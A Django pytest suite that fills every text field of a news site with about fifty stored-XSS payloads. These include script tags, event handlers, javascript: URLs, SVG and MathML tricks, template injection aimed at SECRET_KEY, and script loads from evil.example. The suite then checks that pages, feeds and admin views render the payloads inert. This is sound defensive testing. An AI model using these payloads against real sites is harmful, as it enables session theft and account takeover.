"""
Stored XSS: hostile text in every plain-text field and in the body, on every surface that shows it.

Each payload fills every editable plain-text field of every model readers or editors
see (titles, standfirsts, captions, credits, alt text, names and their variants, bios,
positions, degrees, printed names and affiliations, institutions, sections, regions,
tags, corrections, pages) and the body. Every page is then parsed as a browser would
and must hold nothing executable: no script but the site's own files and JSON data
blocks, no event-handler attributes, no javascript:/vbscript:/data: addresses, no
SVG, MathML, frames, objects or embeds.
"""

import io
import json
import re
from html.parser import HTMLParser
from urllib.parse import quote_plus
from xml.etree import ElementTree

import pytest
from django.contrib import admin
from django.contrib.admin.models import CHANGE, LogEntry
from django.contrib.auth.models import User
from django.core.files.base import ContentFile
from django.db import models
from django.urls import NoReverseMatch, reverse
from django.utils.html import escape
from PIL import Image
from taggit.models import Tag

from articles.models import Article, ArticleAuthor, Page, Region, RelatedLink, Section
from authors.models import Affiliation, Author, AuthorLink, Institution

from .conftest import make_article
from .surfaces import public_urls

pytestmark = pytest.mark.django_db

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="&#106;avascript&#58;alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '" onmouseover="alert(1)',
    "' onfocus='alert(1)' autofocus='",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '{"a": "</script><script>alert(1)</script>"}',
    "\u2028\u2029</script><!--<script>",
    "<!--<script>alert(1)</script>-->",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    '<button formaction="javascript:alert(1)">x</button>',
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="https://evil.example/">',
    "<style>@import 'https://evil.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "{{ 7|add:42 }}{% debug %}",
    '{% load static %}{% include "base.html" %}{{ settings.SECRET_KEY }}',
    "${alert(1)}`${alert(1)}`",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    "<video><source onerror=alert(1)></video>",
    "<input autofocus onfocus=alert(1)>",
    "javascript:alert(1)",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "]]><script>alert(1)</script><![CDATA[",
]

# Where a browser follows or runs an address.
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "poster", "data", "background", "srcset", "ping"}
DANGEROUS_SCHEME = re.compile(r"^(javascript|vbscript|data):", re.IGNORECASE)
FORBIDDEN_ELEMENTS = {"svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "base"}
DATA_SCRIPT_TYPES = {"application/json", "application/ld+json", "importmap"}
# The admin's own icons (admin/base.html, admin/color_theme_toggle.html): known by their class.
ADMIN_SVG_CLASSES = {"base-svgs", "theme-icon-when-auto", "theme-icon-when-dark", "theme-icon-when-light"}


class Audit(HTMLParser):
    """Everything executable a browser would find in a page."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems = []
        self.data_script = None

    def handle_starttag(self, tag, attrs):
        for name, value in attrs:
            value = value or ""
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=…>")
            if name in URL_ATTRIBUTES and DANGEROUS_SCHEME.match(re.sub(r"[\x00-\x20]", "", value)):
                self.problems.append(f"<{tag} {name}={value[:60]!r}>")
            if name == "style" and re.search(r"javascript:|expression\(|@import", value, re.IGNORECASE):
                self.problems.append(f"<{tag} style={value[:60]!r}>")
        attributes = dict(attrs)
        if tag in FORBIDDEN_ELEMENTS and not (tag == "svg" and attributes.get("class") in ADMIN_SVG_CLASSES):
            self.problems.append(f"<{tag}>")
        if tag == "meta" and (attributes.get("http-equiv") or "").lower() == "refresh":
            self.problems.append("<meta http-equiv=refresh>")
        if tag == "script":
            kind = (attributes.get("type") or "").lower()
            if attributes.get("src"):
                # Our own files: static ones, and the admin's JavaScript catalog (/admin/jsi18n/).
                if not re.match(r"/(?!/)", attributes["src"]):
                    self.problems.append(f"<script src={attributes['src'][:60]!r}>")
            elif kind in DATA_SCRIPT_TYPES:
                self.data_script = ""
            else:
                self.problems.append(f"inline <script type={kind!r}>")

    def handle_data(self, data):
        if self.data_script is not None:
            self.data_script += data

    def handle_endtag(self, tag):
        if tag == "script" and self.data_script is not None:
            try:
                json.loads(self.data_script)
            except ValueError:
                self.problems.append(f"a JSON script block that is not JSON: {self.data_script[:80]!r}")
            self.data_script = None


def executable(html):
    audit = Audit()
    audit.feed(html)
    audit.close()
    return audit.problems


def assert_inert(response, url):
    assert response.status_code in {200, 301, 302, 404}, (url, response.status_code)
    if response.status_code == 200 and "html" in response.get("Content-Type", ""):
        assert executable(response.content.decode()) == [], url


def plain_text_fields(model):
    """The editable free-text fields of ``model``: no choices, slugs, URLs, or codes too short for text."""
    return [
        field
        for field in model._meta.get_fields()
        if isinstance(field, models.CharField | models.TextField)
        and not isinstance(field, models.SlugField | models.URLField | models.EmailField)
        and field.editable
        and not field.choices
        and (field.max_length is None or field.max_length >= 20)
        and field.name != "body"
    ]


def fill(model, text, **extra):
    return {f.name: text[: f.max_length] if f.max_length else text for f in plain_text_fields(model)} | extra


def png():
    buffer = io.BytesIO()
    Image.new("RGB", (8, 6), (10, 20, 30)).save(buffer, "PNG")
    return buffer.getvalue()


def hostile_site():
    """One of everything per payload, every free-text field holding it. Returns the articles."""
    image = png()
    articles = []
    for n, payload in enumerate(PAYLOADS):
        text = f"{payload} #{n}"
        section = Section.objects.create(**fill(Section, text), slug=f"section-{n}")
        region = Region.objects.create(**fill(Region, text), slug=f"region-{n}")
        academy = Institution.objects.create(**fill(Institution, f"{text} academy"))
        institution = Institution.objects.create(**fill(Institution, text), parent=academy)
        author = Author.objects.create(**fill(Author, text))
        author.add_name(f"{text} variant", kind="signature")
        AuthorLink.objects.create(author=author, label=text[:100], url="https://example.org/profile")
        Affiliation.objects.create(author=author, institution=institution, position=text)
        article = make_article(
            **fill(Article, text, title=text),
            is_exclusive=True,
            section=section,
            body=f"<p>{payload}</p>{payload}<p title='{payload}'>x</p>",
            lead_image=ContentFile(image, name="photo.png"),
        )
        ArticleAuthor.objects.create(
            article=article, author=author, institution=institution, **fill(ArticleAuthor, text)
        )
        article.regions.add(region)
        article.tags.add(text[:100])
        if articles:
            RelatedLink.objects.create(from_article=article, to_article=articles[-1])
        if hasattr(article, "corrections"):  # the workflow's corrections, where they exist
            article.corrections.create(text=text)
        Page.objects.create(title=text, status=Page.Status.PUBLISHED, body=payload)
        articles.append(article)
    return articles


@pytest.fixture
def site(db):
    return hostile_site()


@pytest.fixture
def editor(client):
    user = User.objects.create_superuser("editor", "editor@example.org", "x")
    client.force_login(user)
    return user


def test_the_corpus_is_varied_and_large_enough():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 40


@pytest.mark.parametrize("payload", PAYLOADS[:12])
def test_the_audit_would_catch_each_payload_if_it_were_printed_raw(payload):
    """The checks below can fail: raw, these payloads are executable (or break a JSON block)."""
    raw = f'<p>{payload}</p><a href="{payload}">x</a><script type="application/json">{{"x": "{payload}"}}</script>'
    assert executable(raw) != []


def test_public_pages_print_hostile_text_as_text(client, site):
    # Feeds and sitemaps are XML: the tests below read them as feed readers do.
    urls = public_urls(queries=[quote_plus(p) for p in PAYLOADS[::4]] + ["script", "alert"], feed_formats=())
    urls = [url for url in urls if not url.startswith("/sitemap")]
    assert len(urls) > 7 * len(PAYLOADS)
    for url in urls:
        assert_inert(client.get(url), url)
    # The payloads did reach the pages, escaped: the test is not walking empty pages.
    page = client.get(site[0].get_absolute_url()).content.decode()
    assert escape(site[0].title) in page


def test_public_pages_never_evaluate_template_syntax(client, site, settings):
    template_payload = next(a for a in site if "{% debug %}" in a.title)
    html = client.get(template_payload.get_absolute_url()).content.decode()
    assert "{{ 7|add:42 }}" in html
    assert settings.SECRET_KEY not in html


def text_of(element):
    return "".join(element.itertext())


def feed_urls():
    return [url for url in public_urls() if url.startswith("/feeds/")]


def test_feeds_are_well_formed_xml(client, site):
    feeds = feed_urls()
    if not feeds:
        pytest.skip("no feeds yet")
    for url in feeds:
        response = client.get(url)
        assert response.status_code == 200, url
        ElementTree.fromstring(response.content)


def test_what_feed_readers_render_as_html_is_inert(client, site):
    feeds = feed_urls()
    if not feeds:
        pytest.skip("no feeds yet")
    for url in feeds:
        root = ElementTree.fromstring(client.get(url).content)
        for element in root.iter():
            name = element.tag.rsplit("}", 1)[-1]
            # RSS descriptions are HTML by convention; Atom says so with type="html" or "xhtml".
            if name == "description" or element.get("type") in {"html", "xhtml"}:
                assert executable(text_of(element)) == [], (url, name, text_of(element)[:200])


def test_sitemaps_are_well_formed_xml(client, site):
    sitemaps = [url for url in public_urls() if url.startswith("/sitemap")]
    if not sitemaps:
        pytest.skip("no sitemaps yet")
    for url in sitemaps:
        response = client.get(url)
        assert response.status_code == 200, url
        ElementTree.fromstring(response.content)


def admin_changelists():
    for model in admin.site._registry:
        try:
            yield reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
        except NoReverseMatch:
            continue


def test_admin_changelists_and_their_search(client, editor, site):
    for url in admin_changelists():
        for query in ["", f"?q={quote_plus(PAYLOADS[0])}", f"?q={quote_plus(PAYLOADS[13])}"]:
            assert_inert(client.get(url + query), url + query)


CHANGE_FORMS = [Article, Author, Institution, Section, Region, Page, Tag]


@pytest.mark.parametrize("model", CHANGE_FORMS, ids=lambda m: m._meta.model_name)
def test_admin_change_forms(client, editor, site, model):
    name = f"admin:{model._meta.app_label}_{model._meta.model_name}_change"
    for pk in model.objects.values_list("pk", flat=True):
        url = reverse(name, args=[pk])
        assert_inert(client.get(url), url)


def test_admin_history_and_revision_views(client, editor, site):
    # Admin history prints each object's name as it was and the change message.
    LogEntry.objects.log_actions(editor.pk, Article.objects.all(), CHANGE, change_message="<script>alert(1)</script>")
    LogEntry.objects.log_actions(editor.pk, Author.objects.all(), CHANGE, change_message='"><img src=x onerror=1>')
    for article in site:
        author = article.bylines.get().author
        urls = [
            reverse("admin:articles_article_history", args=[article.pk]),
            reverse("admin:authors_author_history", args=[author.pk]),
            reverse("admin:index"),  # "Recent actions"
        ]
        for optional in ["admin:articles_article_compare", "admin:articles_article_previews"]:
            try:
                urls.append(reverse(optional, args=[article.pk]))
            except NoReverseMatch:
                pass
        for url in urls:
            assert_inert(client.get(url), url)
